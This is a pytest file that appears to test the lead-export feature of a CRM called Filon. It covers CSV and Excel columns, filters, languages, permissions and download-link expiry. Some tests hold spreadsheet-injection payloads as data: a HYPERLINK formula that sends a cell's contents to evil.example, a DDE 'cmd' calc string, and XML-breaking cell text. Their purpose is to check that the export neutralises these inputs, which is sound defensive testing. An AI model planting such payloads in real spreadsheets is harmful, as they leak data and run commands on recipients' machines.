"""A member takes the list along: as it is shown, all of it, in their own words, and nobody else can have it."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from filon.foundation import clock
from filon.interactions import edits
from filon.leads import custom_fields, tags
from filon.leads.models import PAGE_ROWS, Lead
from filon.tenants.models import Member
from tests.dashboard.people import base, frame_bearer, signed_in
from tests.desk.crowd import said
from tests.desk.test_whole_lists import crowd
from tests.foundation.neighbours import record
from tests.leads.own import add_field
from tests.parts.service import Filon, PairedSite, submission
from tests.reports.reading import ask, export, links, rows_of_csv, rows_of_xlsx

# An evening in Casablanca, one hour ahead of UTC.
EVENING = datetime(2026, 11, 29, 20, 15, tzinfo=UTC)
# On Alice's clock. Whether Morocco is an hour ahead by then is decided by decree, and told by the zones' data.
HERE = f"{EVENING.astimezone(ZoneInfo('Africa/Casablanca')):%Y-%m-%d %H:%M:%S}"


def test_it_works(filon: Filon, alice: PairedSite) -> None:
    with clock.standing_at(EVENING):
        browser = signed_in(alice)
        alice.deliver(submission(submitted_at=said(EVENING)), timestamp=clock.unix())
        with filon.inside(alice.tenant):
            lead = Lead.by_number(1)
            edits.change_field(lead, "amount", "38 500,5", "MA")
            edits.change_field(lead, "owner", str(Member.get(Member.role == "owner").id), "MA")
        assert "/app/exports" in browser.get("/app/prospects").text
        shown = ask(browser)
        assert shown.status_code == 200
        assert "En préparation" in shown.text
        assert links(browser) == []
        filon.work()
        answer = browser.get(links(browser)[0])
    assert (answer.status_code, answer.mimetype) == (200, "text/csv")
    assert answer.headers["Content-Disposition"] == "attachment; filename=prospects-2026-11-29.csv"
    assert answer.headers["Cache-Control"] == "private, no-store"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    (row,) = rows_of_csv(answer.data)
    assert row == {
        **{"N° Filon": "1", "Prénom": "", "Nom": "Salma Bennani", "Mail": "salma@example.com"},
        **{
            "Téléphone": "+212661234567",
            "Entreprise": "",
            "État": "Nouveau",
            "Provenance": "Formulaire du site",
        },
        **{
            "Détail de la provenance": row["Détail de la provenance"],
            "Responsable": "Alice",
            "Montant": "38500,50",
        },
        **{"Devise": "MAD", "À rappeler depuis": HERE, "Reçu le": HERE},
        **{"Dernière activité": HERE, "Note": "", "Page": "https://atlas.example/contact/"},
        **{"Message": "Bonjour, je voudrais un devis pour une cuisine en L.", "Étape": "", "Étiquettes": ""},
        **{"Raison d’abandon": "", "Consentement": "", "Visites": ""},
    }


def test_excel_gets_types(filon: Filon, alice: PairedSite) -> None:
    alice.deliver(submission())
    with filon.inside(alice.tenant):
        edits.change_field(Lead.by_number(1), "amount", "1 250", "MA")
    answer = export(alice, signed_in(alice), "xlsx")
    assert answer.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    (row,) = rows_of_xlsx(answer.data)
    assert (row["N° Filon"], row["Montant"]) == (("n", "1"), ("n", "1250"))
    assert row["Téléphone"] == ("inlineStr", "+212661234567")
    kind, days = row["Reçu le"]
    assert kind == "n"
    assert 46_000 < float(days) < 80_000, "a moment, in days since 1899"


def test_it_has_the_columns_of_the_list_or_all_of_them(filon: Filon, alice: PairedSite) -> None:
    record(filon, alice, "Salma")
    surface = add_field(alice, "Surface", "number")
    add_field(alice, "Marge", "number", seen_by="owner")
    with filon.inside(alice.tenant):
        custom_fields.change_value(Lead.by_number(1), surface, "85,5", "MA")
        tags.add_tag(Lead.by_number(1), tags.tag_named("VIP, urgent"))
    shown = "fields.marge,tags,fields.surface,amount,next"
    html = signed_in(alice).get("/app/prospects", query_string={"status": "all", "columns": shown}).text
    assert f'name="file_columns" value="{shown}" checked' in html
    for role, heads in (("owner", ["Marge", "Étiquettes", "Surface"]), ("agent", ["Étiquettes", "Surface"])):
        browser = signed_in(alice, role)
        (row,) = rows_of_csv(
            export(alice, browser, file_columns=shown.removeprefix("fields.marge," * (role == "agent"))).data
        )
        name = ["N° Filon", "Prénom", "Nom", "Téléphone"]
        assert list(row) == [*name, *heads, "Montant", "Devise", "Prochaine action"]
        assert (row["Étiquettes"], row["Surface"]) == ('"VIP, urgent"', "85,5")
    (row,) = rows_of_csv(export(alice, browser, file_columns="").data)
    assert list(row)[-4:] == ["Étiquettes", "Consentement", "Visites", "Surface"]
    assert "N° Filon" in row


def test_it_holds_what_the_list_shows(filon: Filon, alice: PairedSite) -> None:
    record(filon, alice, "Salma", "Younes", "Nadia", "Karim")
    with filon.inside(alice.tenant):
        Lead.update(status="won").where(Lead.number == 2).execute()
        Lead.update(source="google").where(Lead.number == 3).execute()
        Lead.update(trashed_at=clock.now()).where(Lead.number == 4).execute()
        bob = Member.get(Member.role == "owner").id
        Lead.update(owner_id=bob).where(Lead.number == 1).execute()
    browser = signed_in(alice)
    today, tomorrow = clock.now().date(), clock.now().date() + timedelta(days=2)
    for shown, numbers in [
        ({}, ["3", "2", "1"]),
        ({"status": "all"}, ["3", "2", "1"]),
        ({"status": "won"}, ["2"]),
        ({"source": "google"}, ["3"]),
        ({"owner": str(bob)}, ["1"]),
        ({"owner": "nobody", "status": "new"}, ["3"]),
        ({"q": "youn"}, ["2"]),
        ({"sort": "name"}, ["3", "1", "2"]),
        ({"since": tomorrow.isoformat()}, []),
        ({"until": (today - timedelta(days=2)).isoformat()}, []),
        ({"status": "waiting", "sort": "waiting"}, ["1", "2", "3"]),
        ({"after": "nonsense", "owner": "nonsense"}, ["3", "2", "1"]),
    ]:
        rows = rows_of_csv(export(alice, browser, **shown).data)
        assert [row["N° Filon"] for row in rows] == numbers, shown


def test_the_button_asks_for_what_is_shown(filon: Filon, alice: PairedSite) -> None:
    record(filon, alice, "Salma", "Younes")
    with filon.inside(alice.tenant):
        Lead.update(status="won").where(Lead.number == 2).execute()
    browser = signed_in(alice)
    for address, numbers in [
        ("?status=won", ["2"]),
        ("?q=salma", ["1"]),
        ("?sort=name&status=all", ["1", "2"]),
    ]:
        menu = (
            browser.get(f"/app/prospects{address}").text.partition('id="exporter"')[2].partition("</form>")[0]
        )
        hidden = dict(re.findall(r'type="hidden" name="(\w+)" value="([^"]*)"', menu))
        rows = rows_of_csv(export(alice, browser, **hidden).data)
        assert [row["N° Filon"] for row in rows] == numbers, address


def test_it_has_every_page(filon: Filon, alice: PairedSite) -> None:
    many = 4 * PAGE_ROWS + 1  # more than the writer reads at once
    crowd(alice, many)
    for sort in ("received", "name"):
        rows = rows_of_csv(export(alice, signed_in(alice), sort=sort, status="all").data)
        assert sorted(int(row["N° Filon"]) for row in rows) == list(range(1, many + 1))


@pytest.mark.parametrize(
    ("language", "separator", "name", "status"),
    [("en", ",", "Name", "New"), ("ar", ";", "الاسم", "جديد")],
)
def test_it_is_in_the_words_of_who_asks(
    filon: Filon, alice: PairedSite, language: str, separator: str, name: str, status: str
) -> None:
    alice.deliver(submission())
    with filon.inside(alice.tenant):
        edits.change_field(Lead.by_number(1), "amount", "12,5", "MA")
    (row,) = rows_of_csv(export(alice, signed_in(alice, language=language)).data, separator)
    assert row[name] == "Salma Bennani"
    assert status in row.values()
    assert ("12.50" if language == "en" else "12,50") in row.values()


PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1)'


def test_a_visitors_formula_is_text(filon: Filon, alice: PairedSite) -> None:
    typed = {
        "name": PAYLOAD,
        "company": "@SUM(1)",
        "email": "a@example.com",
        "message": " \t＝cmd|'/C calc'!A0",
    }
    alice.deliver(submission(typed, page="https://atlas.example/+1"))
    with filon.inside(alice.tenant):
        edits.change_field(Lead.by_number(1), "note", "-1+2", "MA")
        lead = Lead.by_number(1)
    browser = signed_in(alice)
    content = export(alice, browser).data
    (cells,) = rows_of_csv(content, undone=False)
    assert not [cell for cell in cells.values() if re.match(r"[\s\"']*[=+\-@＝]", cell) and cell[0] != "'"]
    (row,) = rows_of_csv(content)
    said = (row["Prénom"], row["Nom"], row["Entreprise"], row["Message"], row["Note"])
    assert said == (lead.first_name, lead.last_name, lead.company, lead.message, "-1+2")
    assert PAYLOAD in f"{row['Prénom']} {row['Nom']}"
    (plain,) = rows_of_xlsx(export(alice, browser, "xlsx").data)
    assert plain["Entreprise"] == ("inlineStr", "@SUM(1)")
    assert plain["Note"] == ("inlineStr", "-1+2")


@pytest.mark.parametrize(
    "text",
    [
        '<r><t>Bonjour</t></r></is></c><c><f>HYPERLINK(A2)</f></c><c t="inlineStr"><is><r><t>x</t></r>',
        "<r>Bonjour & <b></r>",
        "<r></r>",
        "{=1+1}",
        "http://evil.example/",
        "internal:Filon!A1",
        "_x0041_",
        " \tBonjour\r\n  Salma ",
    ],
)
def test_what_looks_like_excels_own_is_text_in_every_column(
    filon: Filon, alice: PairedSite, text: str
) -> None:
    record(filon, alice, "Salma")
    columns = ("first_name", "company", "source_detail", "message", "note", "page")
    with filon.inside(alice.tenant):
        Lead.update(dict.fromkeys(columns, text)).execute()
    (row,) = rows_of_xlsx(export(alice, signed_in(alice), "xlsx").data)
    # Which Excel shows as it is written: "_x0041_" alone would be shown as A.
    written = text.replace("_x0041_", "_x005F_x0041_").replace("\r", "_x000D_")
    heads = ("Prénom", "Entreprise", "Détail de la provenance", "Message", "Note", "Page")
    assert [row[head] for head in heads] == [("inlineStr", written)] * len(columns)


def test_excel_takes_what_xml_cannot_say(filon: Filon, alice: PairedSite) -> None:
    record(filon, alice, "Salma")
    with filon.inside(alice.tenant):
        Lead.update(note="a\x01b\ufffec", message="é" * 40_000).execute()
    (row,) = rows_of_xlsx(export(alice, signed_in(alice), "xlsx").data)
    assert row["Note"][1] == "abc"
    assert row["Message"][1] == "é" * 32_767


def test_a_reader_may_take_along_what_they_may_see(filon: Filon, alice: PairedSite) -> None:
    record(filon, alice, "Salma")
    assert len(rows_of_csv(export(alice, signed_in(alice, "reader")).data)) == 1


def test_inside_wp_admin_it_is_the_same(filon: Filon, alice: PairedSite) -> None:
    record(filon, alice, "Salma")
    who = frame_bearer(alice, "reader")
    asked = filon.client.post(f"{base(alice)}/exports", data={"format": "csv"}, headers=who)
    assert (asked.status_code, asked.headers["Location"]) == (303, f"{base(alice)}/exports")
    filon.work()
    page = filon.client.get(f"{base(alice)}/exports", headers=who).text
    (link,) = re.findall(rf'href="({base(alice)}/exports/[^"]+)" download=', page)
    ticket = filon.client.post(f"{base(alice)}/tickets", json={"path": link}, headers=who).json["ticket"]
    assert len(rows_of_csv(filon.client.get(f"{link}?ticket={ticket}").data)) == 1


def test_nobody_else_can_have_it(filon: Filon, alice: PairedSite, charlie: PairedSite) -> None:
    record(filon, alice, "Salma")
    browser = signed_in(alice)
    ask(browser)
    filon.work()
    (link,) = links(browser)
    for other in (signed_in(charlie), signed_in(alice, "manager")):
        assert other.get(link).status_code == 404
        assert links(other) == []
    assert filon.client.get(link).status_code == 302, "to sign in"
    forged = link[:-2] + ("AA" if link[-2:] != "AA" else "BB")
    assert browser.get(forged).status_code == 404


def test_a_link_is_good_for_a_week(filon: Filon, alice: PairedSite) -> None:
    browser = signed_in(alice)
    ask(browser)
    filon.work()
    (link,) = links(browser)
    for days, status in ((6, 200), (8, 404)):
        with clock.standing_at(clock.now() + timedelta(days=days)):
            assert browser.get(link).status_code == status, days


def test_one_link_does_not_open_another_export(filon: Filon, alice: PairedSite) -> None:
    browser = signed_in(alice)
    for _time in range(2):
        ask(browser)
        filon.work()
    newer, older = links(browser)
    mixed = f"{newer.rpartition('/')[0]}/{older.rpartition('/')[2]}"
    assert browser.get(mixed).status_code == 404
    assert browser.get(older).status_code == 200


def test_an_unknown_format_is_refused(alice: PairedSite) -> None:
    assert ask(signed_in(alice), "pdf").status_code == 422
